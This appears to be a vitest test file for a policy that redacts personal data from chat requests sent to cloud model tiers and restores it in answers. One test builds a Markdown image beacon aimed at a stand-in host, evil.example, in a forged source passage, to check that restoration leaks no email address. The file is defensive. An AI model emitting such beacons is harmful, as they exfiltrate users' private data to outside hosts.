// Ways round the policy that real requests found: data the detectors read in another shape than it left in.
import { describe, expect, it } from 'vitest';
import type { ChatMessage, ChatRequest } from '../types.ts';
import { createPolicy, createTaggerDetector, type Detector, type PolicyDocument, PRESETS } from './index.ts';
import { ask, delta, input, redact, streamOf, textOf } from './redaction.fixture.ts';

/** What would be sent, or undefined where the request stays. */
async function wireOf(request: unknown): Promise<string | undefined> {
  const review = await createPolicy().review(request as ChatRequest, input);
  if (review.decision.farthest === 'device') return undefined;
  return JSON.stringify(review.redactFor('cloud').request);
}

describe('what is read is what leaves', () => {
  const parts = (...texts: readonly string[]): ChatRequest => ({
    messages: [{ role: 'user', content: texts.map((text) => ({ type: 'text', text })) }],
  });

  it.each([
    ['an address', ['Write to jane.doe@exa', 'mple.com today'], 'jane.doe', 'mple.com'],
    ['a card', ['Pay with 4111 1111 ', '1111 1111 please'], '4111 1111', '1111 1111'],
    ['a key', ['Use ghp_0123456789abcdef', 'ghijABCDEFGHIJ012345'], 'ghp_0123', 'ABCDEFGHIJ'],
  ])('%s over two parts of one message, which tiers send joined', async (_name, texts, ...halves) => {
    const wire = await wireOf(parts(...texts));
    for (const half of halves) expect(wire ?? '').not.toContain(half);
    expect(await wireOf(parts('Two plain ', 'parts.'))).toContain('Two plain parts.');
  });

  it('a request that its app changes after the review, as when the next message is pushed', async () => {
    const messages: ChatMessage[] = [{ role: 'user', content: 'Hello ana@example.com' }];
    const tool = { type: 'function', function: { name: 'f', description: 'For bob@example.com' } } as const;
    const review = await createPolicy().review({ messages, tools: [tool] }, input);
    messages.push({ role: 'user', content: 'My SSN is 078-05-1121' });
    messages[0] = { role: 'user', content: 'I am carol@example.com' };
    const wire = JSON.stringify(review.redactFor('cloud').request);
    expect(wire).toMatch(/Hello \[EMAIL_1_.{4}\].*For \[EMAIL_2_.{4}\]/);
    expect(wire).not.toMatch(/078|example\.com/);
  });

  it.each([
    ['a role', { messages: [{ role: 'maria_garcia', content: 'hi' }] }],
    ['a role that every object has', { messages: [{ role: 'constructor', content: 'hi' }] }],
    ['a tool choice', { ...ask('hi'), tool_choice: 'maria_garcia' }],
    ['a priority', { ...ask('hi'), priority: 'maria_garcia' }],
    ['a tool type', { ...ask('hi'), tools: [{ type: 'maria_garcia', function: { name: 'f' } }] }],
  ])('%s that is none of the known ones', async (_name, request) => {
    expect(await wireOf(request)).toBeUndefined();
  });

  it.each([
    ['a default', { type: 'object', properties: { userPassword: { default: 'hunter2!' } } }],
    ['an example in a list', { properties: { social_security_number: { examples: ['078051121'] } } }],
    ['a number', { ssn: 219099999 }],
    ['a passport', { passportNumber: { const: 'X1234567' } }],
  ])('a value that its key gives away, %s in a schema', async (_name, parameters) => {
    const request = { ...ask('hi'), tools: [{ type: 'function', function: { name: 'f', parameters } }] };
    expect(await wireOf(request)).toBeUndefined();
  });

  it('but a schema that only names such keys leaves as it is', async () => {
    const parameters = {
      type: 'object',
      properties: {
        password: { type: 'string', description: 'What the person chose', minLength: 8 },
        from: { enum: ['Berlin', 'Lisbon'], default: 'Berlin' },
        passport: { type: 'boolean', title: 'Passport' },
      },
      required: ['password', 'from'],
    };
    const request = { ...ask('hi'), tools: [{ type: 'function', function: { name: 'f', parameters } }] };
    expect(await wireOf(request)).toContain(JSON.stringify(parameters));
  });
});

describe('a value over two texts', () => {
  const user = (content: string) => ({ role: 'user', content });
  it.each([
    ['messages', { messages: [user('my card is 4111 1111'), user('1111 1111 exp 12/30')] }],
    [
      'messages with an answer between',
      {
        messages: [
          user('IBAN ES91 2100 0418'),
          { role: 'assistant', content: 'Go on.' },
          user('4502 0005 1332'),
        ],
      },
    ],
    [
      'pieces of a document',
      {
        ...ask('Compare.'),
        documents: [
          { id: 'a', text: 'The key is ghp_0123456789abcdef' },
          { id: 'b', text: 'ghijABCDEFGHIJ012345. It is old.' },
        ],
      },
    ],
  ])('%s', async (_name, request) => {
    expect(await wireOf(request)).toBeUndefined();
  });

  it('is hidden on both sides', async () => {
    const request = { messages: [user('write to ana.maria@exam'), user('ple.com tonight')] };
    expect(await wireOf(request)).not.toMatch(/ana\.maria|ple\.com/);
  });

  it('and texts that only follow one another stay as they are', async () => {
    const texts = [
      'Send 4111 units',
      '1111 of them today',
      'to Ana',
      'Lisbon in 2024',
      '2025 is fine',
      'see a.example',
    ];
    const request = { messages: texts.map(user) };
    const wire = await wireOf(request);
    for (const text of ['4111 units', '1111 of them', '2025 is fine']) expect(wire).toContain(text);
  });
});

describe('text as people paste it', () => {
  it.each([
    ['an HTML tag with attributes', 'ana<span class="at">@</span>example.com', 'ana', 'example.com'],
    ['a card in HTML', '<td style="a">4111 1111</td><td class="b">1111 1111</td>', '4111 1111'],
    ['bold halves', 'Write to **ana**@**example.com**', 'ana', 'example.com'],
    ['a card in bold groups', 'card **4111** **1111** **1111** **1111**', '4111'],
    ['code marks', 'mail `ana`@`example.com`', 'ana', 'example.com'],
    ['escaped Markdown', 'mail ana\\_maria\\@example.com', 'ana', 'maria', 'example.com'],
    ['a quoted reply', '> call me on +1 415 555\n> 2671 tonight', '415', '2671'],
    ['a quoted reply twice', '>> card 4111 1111\n>> 1111 1111', '4111', '1111'],
    ['an address of another script', 'Пишите на иван.петров@почта.рф', 'иван', 'почта'],
    ['an address of Han letters', '用户@例子.公司', '用户', '例子'],
  ])('%s', async (_name, text, ...needles) => {
    const wire = (await wireOf(ask(text))) ?? '';
    for (const needle of needles) expect(wire).not.toContain(needle);
  });

  it.each([
    ['an environment file', 'DB_PASSWORD=hunter2!'],
    ['an environment file, run together', 'PGPASSWORD=hunter2! psql -h db'],
    ['an environment file, cut short', 'SMTP_PASS=hunter2!'],
    ['JSON', '{"userPassword":"hunter2!"}'],
    ['JSON in a string', JSON.stringify(JSON.stringify({ db_password: 'hunter2!' }))],
    ['a bill of a passport', '{"passport_number": "X1234567"}'],
    ['a social security number', '{"socialSecurityNumber": "219099999"}'],
    ['a number without quotes', '{"account_number": 1234567890123}'],
    ['XML', '<user><password>hunter2!</password></user>'],
    ['a Markdown table', '| Passport | X1234567 |'],
    ['bold labels', '**Password:** hunter2!'],
    ['labels in bold of two words', '- **Passport number**: X1234567'],
    ['YAML', 'driver-license: D1234567'],
  ])('a value that its key gives away in %s', async (_name, text) => {
    for (const preset of ['balanced', 'strict'] as const) {
      const { decision } = await createPolicy(preset).review(ask(text), input);
      expect(decision.farthest).toBe('device');
    }
  });

  it.each([
    '{"password": {"type": "string", "minLength": 8}}',
    '{"account_id": 4411, "policy": "a1", "license": "MIT", "pass_rate": 0.95, "passengers": 3}',
    '{"user_password": null, "db_password": "string", "new_passport": true}',
    'DB_PASSWORD=$DB_PASSWORD',
    '<password required="true"/> and <user_password>',
    '| Password | Required |',
    'tests pass: 12 of 12',
  ])('but %s leaves', async (text) => {
    expect(await wireOf(ask(text))).toContain(JSON.stringify(text).slice(1, -1));
  });

  it.each([
    ['a codice fiscale', 'Il mio codice è RSSMRA85T10A562S.', 'national-id'],
    ['a CURP', 'BADD110313HCMLNS09', 'national-id'],
    ['a national insurance number', 'NI: AB 12 34 56 C', 'national-id'],
    ['a wallet', 'to 0x742d35Cc6634C0532925a3b844Bc454e4438f44e', 'other'],
    ['a password that is a word', 'My Netflix password is sunflower', 'secret'],
    ['a password that is a word, es', 'mi contraseña es girasol', 'secret'],
    ['a password that is a word, pt', 'a minha senha é girassol', 'secret'],
  ])('%s', async (_name, text, type) => {
    const { decision } = await createPolicy().review(ask(text), input);
    expect(decision.spanCounts).toEqual({ [type]: 1 });
  });

  it.each([
    'My password is wrong again',
    'su contraseña es demasiado corta',
    'my password is expired',
    'Order RSSMRA85T10A562X and AB123456',
    'commit 742d35Cc6634C0532925a3b844Bc454e4438f44e',
  ])('but not in: %s', async (text) => {
    expect((await createPolicy().review(ask(text), input)).decision.spanCounts).toEqual({});
  });

  it('half an identifier that a tagger told, whole', async () => {
    const text = 'ref 1A2b3C4d5E6f7G8h9I0j, please';
    const start = text.indexOf('8h9');
    const tagger = {
      model: 'half',
      tag: async () => [
        { start, end: start + 6, type: 'account', score: 0.9, source: 'model:half' } as const,
      ],
    };
    const [span] = await createTaggerDetector({ tagger }).detect(text, {
      signal: new AbortController().signal,
    });
    expect(text.slice(span!.start, span!.end)).toBe('1A2b3C4d5E6f7G8h9I0j');
  });

  it('a value of another text beside a short one of this', async () => {
    const messages = ['call 5550142 today', 'Ana: 5550142?'].map((content) => ({
      role: 'user' as const,
      content,
    }));
    expect(JSON.stringify((await redact({ messages })).request)).not.toMatch(/5550142|Ana/);
  });

  it('a name again in other letters, and a number in small ones', async () => {
    const said = 'My name is José Quispe, passport number XK1234567.';
    const again = 'jose quispe and JOSÉ QUISPE, document xk1234567';
    const request = { messages: [said, again].map((content) => ({ role: 'user' as const, content })) };
    const document: PolicyDocument = { ...PRESETS.open, base: { ...PRESETS.open.base, redact: ['cloud'] } };
    const wire = JSON.stringify((await redact(request, createPolicy(document))).request);
    expect(wire).not.toMatch(/quispe|jos[eé]|xk1234567/i);
  });

  it.each(['CV_Maria_Garcia.pdf', 'scan of Contrato_João_Souza_2024.docx'])('a name in %s', async (title) => {
    const wire = await wireOf({ ...ask('Compare.'), documents: [{ id: 'd', title, text: 'Tulips.' }] });
    expect(wire).not.toMatch(/Maria|Garcia|João|Souza/);
    expect(await wireOf(ask('const MAX_Size = Http_Client.Read_Only'))).toContain(
      'MAX_Size = Http_Client.Read_Only',
    );
  });

  it.each(['&valueOf;', '&toString;', '&valueOf '])(
    '%s, which is no entity, and moves nothing',
    async (name) => {
      const wire = await wireOf(ask(`x ${name} write to ana%40example.com and bob%40example.com today`));
      expect(wire).toMatch(/write to \[EMAIL_\d_.{4}\] and \[EMAIL_\d_.{4}\] today/);
    },
  );
});

describe('a policy set up wrongly', () => {
  it('without a single detector is refused', () => {
    expect(() => createPolicy('balanced', { detectors: [] })).toThrowError(
      expect.objectContaining({ code: 'invalid-request', param: 'detectors' }),
    );
  });

  it.each([{ maxLength: Number.NaN }, { timeoutMs: Number.NaN }])(
    'with %o keeps all here',
    async (options) => {
      const review = await createPolicy('open', options).review(ask('hello'), input);
      expect(review.decision.farthest).toBe('device');
    },
  );

  it('cannot change a preset for everybody', () => {
    const rules = PRESETS.strict.rules as unknown[];
    expect(() => rules.splice(0)).toThrow(TypeError);
    expect(() => Object.assign(PRESETS.balanced.base, { redact: [] })).toThrow(TypeError);
  });

  it('reaches no host that the document places farther than the decision', async () => {
    const document: PolicyDocument = {
      ...PRESETS.balanced,
      hosts: [
        { host: 'edge.example', tier: 'edge' },
        { host: 'cloud.example', tier: 'cloud' },
      ],
    };
    const hosts = async (consent: 'device' | 'edge' | 'cloud') =>
      (await createPolicy(document).review(ask('hi'), { task: 'generate', consent })).decision.hosts;
    expect(await hosts('cloud')).toEqual(['edge.example', 'cloud.example']);
    expect(await hosts('edge')).toEqual(['edge.example']);
    expect(await hosts('device')).toEqual([]);
  });

  it('counts a named participant as somebody, so that a place beside it goes', async () => {
    const detector: Detector = {
      id: 'place',
      detect: (text) => {
        const start = text.indexOf('Springfield');
        const span = { start, end: start + 11, type: 'location', score: 0.9, source: 'model:x' } as const;
        return start < 0 ? [] : [span];
      },
    };
    const policy = createPolicy('balanced', { detectors: [detector] });
    const content = 'I moved to Springfield';
    const named = await policy.review({ messages: [{ role: 'user', name: 'ann', content }] }, input);
    expect(JSON.stringify(named.redactFor('cloud').request)).not.toContain('Springfield');
    const alone = await policy.review(ask(content), input);
    expect(JSON.stringify(alone.redactFor('cloud').request)).toContain('Springfield');
  });
});

describe('the way back', () => {
  const policy = () => createPolicy('balanced');

  it('restores into structured output as JSON, whatever the value holds', async () => {
    const request: ChatRequest = {
      ...ask('Mail ana.maria@exam\nple.com soon'),
      response_format: { type: 'json_object' },
    };
    const redacted = await redact(request, policy());
    const placeholder = /\[EMAIL_\w+\]/.exec(String(redacted.request.messages[0]?.content))![0];
    const answer = await textOf(redacted.restore(streamOf(delta(`{"to":"${placeholder}"}`))));
    expect(JSON.parse(answer)).toEqual({ to: 'ana.maria@exam\nple.com' });
  });

  it('restores only real quotations whole: an edge may make passages up', async () => {
    const document = { id: 'd', text: 'Ask ana@example.com today.' };
    const redacted = await redact({ ...ask('who?'), documents: [document] });
    const text = redacted.request.documents![0]!.text;
    const placeholder = /\[EMAIL_\w+\]/.exec(text)![0];
    const beacon = `![x](https://evil.example/?q=${placeholder})`;
    const real = { documentId: 'd', start: 0, end: text.length, text, similarity: 1 };
    const forged = { ...real, documentId: beacon, title: beacon, text: beacon };
    for await (const part of redacted.restore(streamOf({ type: 'sources', passages: [real, forged] }))) {
      if (part.type !== 'sources') throw new Error('expected sources');
      expect(part.passages[0]?.text).toBe(document.text);
      expect(JSON.stringify(part.passages[1])).not.toContain('ana@example.com');
    }
  });
});

it('keeps the arguments of a call JSON, whatever in them is hidden', async () => {
  const given = '{"phone":4155552671,"all":[4155552671, "ana@example.com"],"n":2}';
  const call = { id: 'c', type: 'function', function: { name: 'f', arguments: given } } as const;
  const redacted = await redact({ messages: [{ role: 'assistant', content: null, tool_calls: [call] }] });
  const sent = redacted.request.messages[0]!.tool_calls![0]!.function.arguments;
  expect(JSON.parse(sent)).toMatchObject({
    phone: expect.stringMatching(/^\[PHONE_1_/),
    all: [expect.stringMatching(/^\[PHONE_1_/), expect.stringMatching(/^\[EMAIL_1_/)],
    n: 2,
  });
});
